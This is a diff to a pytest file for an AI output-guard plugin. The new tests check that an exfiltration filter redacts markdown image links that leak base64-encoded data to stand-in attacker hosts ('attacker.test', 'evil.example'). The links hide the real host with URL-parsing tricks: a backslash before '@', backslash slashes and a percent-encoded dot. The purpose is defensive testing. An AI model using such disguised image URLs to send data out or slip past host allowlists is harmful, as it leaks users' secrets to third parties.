@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from airs_plugins import Action, Shield
 
 
@@ -37,6 +39,16 @@ def test_allowed_hosts_option() -> None:
                                         "options": {"allowed_hosts": ["evil.example"]}}]})
     d = s.check_output("![x](https://evil.example/p.png?d=c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ)")
     assert d.action is Action.ALLOW
+
+
+@pytest.mark.parametrize("url", ["https://attacker.test\\@cdn.example/p.png", "https:\\\\attacker.test/p.png",
+                                 "https://attacker%2Etest/p.png"])
+def test_allowed_hosts_are_matched_on_the_host_a_browser_fetches(url: str) -> None:
+    """A browser rendering the answer reads the host under the WHATWG rules: for it, these are attacker.test."""
+    s = Shield.from_policy({"checks": [{"id": "output.exfil", "action": "redact",
+                                        "options": {"allowed_hosts": ["cdn.example"]}}]})
+    d = s.check_output(f"![x]({url}?d=c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ)")
+    assert d.action is Action.REDACT
 
 
 def test_canary_leak_blocks_output_and_tool_call() -> None:
